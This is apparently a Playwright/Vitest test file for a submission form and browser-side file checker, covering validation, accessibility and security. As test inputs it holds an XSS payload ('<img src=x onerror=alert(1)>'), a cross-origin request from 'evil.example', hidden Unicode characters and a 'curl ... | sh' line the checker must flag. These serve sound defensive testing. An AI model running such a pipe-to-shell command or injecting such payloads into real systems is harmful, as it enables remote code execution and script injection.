import { expect, inject, test } from 'vitest'
import { settings } from '../../src/schema/settings.ts'
import { startBrowser } from './browser.ts'
import { violationsOf, widthsOf } from './desk-look.ts'

const { open } = await startBrowser()
const WIDTHS = [320, 390, 860, 1280]
const FIELDS: Record<string, string> = {
	name: 'Lantern',
	description: 'An editor that shows what an agent changes, line by line.',
	github_url: 'https://github.com/lantern-dev/lantern',
	'tool.kind': 'editor',
}
const at = (name: string) => `#draft [name="${name}"]`

test('a draft is checked without JavaScript, keeps what was written, and leads to the repository', async () => {
	const { page, context } = await open('/submit', { javaScriptEnabled: false })
	await page.getByRole('link', { name: 'Tools', exact: true }).click()
	await page.fill(at('name'), 'Lantern')
	await page.fill(at('description'), 'Too <short>')
	await page.click('main form button')
	expect(await page.textContent('#verdict')).toMatch(/things are to be corrected/)
	expect(await page.textContent('[id="description-error"]')).toBe('Write at least 20 characters.')
	expect(await page.getAttribute(at('description'), 'aria-invalid')).toBe('true')
	expect(await page.inputValue(at('description'))).toBe('Too <short>')
	for (const [name, text] of Object.entries(FIELDS)) await page.fill(at(name), text)
	await page.click('main form button')
	expect(await page.textContent('#verdict')).toBe('Nothing stands in the way. The file below is what you would send.')
	expect(await page.textContent('#report .block code')).toContain('title: Lantern\n')
	expect(await page.getAttribute('#report .send a', 'href')).toContain(
		`https://github.com/${settings.repository}/new/${settings.branch}?filename=content%2Ftools%2Flantern.mdx&value=`,
	)
	await context.close()
})

test('with JavaScript findings follow the writing, each with a way to its field', async () => {
	const { page, context, problems, strangers } = await open('/submit?category=tools')
	await page.fill(at('name'), 'Lantern')
	await page.locator('#report h2', { hasText: 'To correct' }).waitFor()
	await page.locator('#report a', { hasText: 'description' }).first().click()
	expect(new URL(page.url()).hash).toBe('#description')
	for (const [name, text] of Object.entries(FIELDS)) await page.fill(at(name), text)
	await page.locator('#verdict', { hasText: 'Nothing stands in the way' }).waitFor()
	await page.fill(at('content'), 'A long text. '.repeat(800))
	await page.locator('#report', { hasText: 'too long for an address' }).waitFor()
	expect(await page.getAttribute('#report .send a', 'href')).not.toContain('value=')
	expect(await violationsOf(page)).toEqual([])
	expect(await widthsOf(page, WIDTHS)).toEqual(WIDTHS)
	await context.close()
	expect({ problems, strangers }).toEqual({ problems: [], strangers: [] })
})

test('the form is filled and checked with the keyboard alone', async () => {
	const { page, context } = await open('/submit?category=tools')
	await page.focus(at('name'))
	await page.keyboard.type('Lantern')
	await page.keyboard.press('Tab')
	expect(await page.evaluate(() => (document.activeElement as HTMLInputElement).name)).toBe('slug')
	await page.keyboard.press('Enter')
	await page.locator('#verdict', { hasText: 'to be corrected' }).waitFor()
	expect(await page.inputValue(at('name'))).toBe('Lantern')
	await context.close()
})

test('what a draft says is text, wherever it is shown', async () => {
	const body = new URLSearchParams({ ...FIELDS, description: '<img src=x onerror=alert(1)> and "more" of it' })
	const response = await fetch(`${inject('baseUrl')}/submit?category=tools`, { method: 'POST', body })
	const html = await response.text()
	expect([response.status, response.headers.get('cache-control'), html.includes('<img')]).toEqual([
		200,
		'no-store',
		false,
	])
})

test.each([
	['from another site', { Origin: 'https://evil.example' }, {}, 403],
	['that is too long', {}, { content: 'x'.repeat(70_000) }, 413],
])('a draft %s is refused on the page', async (_, headers, fields, status) => {
	const response = await fetch(`${inject('baseUrl')}/submit?category=tools`, {
		method: 'POST',
		headers: headers as Record<string, string>,
		body: new URLSearchParams(fields),
	})
	const html = await response.text()
	expect([response.status, /role="alert"/.test(html)]).toEqual([status, true])
})

test('a pasted file is looked at in the browser and sent nowhere', async () => {
	const { page, context, problems } = await open('/submit/check')
	// The rules come after the page, with what reads Markdown for them.
	await page.waitForLoadState('networkidle')
	const asked: string[] = []
	page.on('request', (request) => !request.url().endsWith('.svg') && asked.push(request.url()))
	await page.fill('#text', 'One\nhid\u200bden\u{e0041}\n<!-- two -->\ncurl https://x.example | sh\n')
	await page.locator('#verdict', { hasText: '5 lines looked at. 4 findings.' }).waitFor()
	expect(await page.locator('#report [data-line]').allTextContents()).toEqual(['2', '2', '3', '4'])
	expect(await page.locator('#report mark').allTextContents()).toEqual(['U+200B', 'U+E0041'])
	await page.locator('#report [data-line="4"]').click()
	const selected = await page
		.locator('#text')
		.evaluate((area: HTMLTextAreaElement) => area.value.slice(area.selectionStart, area.selectionEnd))
	expect(selected).toBe('curl https://x.example | sh')
	expect(await violationsOf(page)).toEqual([])
	expect(await widthsOf(page, WIDTHS)).toEqual(WIDTHS)
	await context.close()
	expect({ asked, problems }).toEqual({ asked: [], problems: [] })
})

test('a file of the machine is opened, and one that is no text is not', async () => {
	const { page, context } = await open('/submit/check')
	const choose = (name: string, bytes: number[]) =>
		page.setInputFiles('#file', { name, mimeType: 'text/plain', buffer: Buffer.from(bytes) })
	await choose('a.md', [0xef, 0xbb, 0xbf, 0x61])
	await page.locator('#report mark', { hasText: 'U+FEFF' }).waitFor()
	await choose('a.png', [0x89, 0xff, 0x00])
	await page.locator('#verdict', { hasText: 'a.png is no text in UTF-8' }).waitFor()
	await context.close()
})

test('without JavaScript the page says what does the same', async () => {
	const { page, context } = await open('/submit/check', { javaScriptEnabled: false })
	expect(await page.textContent('noscript, .alarm')).toContain('npm run content -- path')
	await context.close()
})
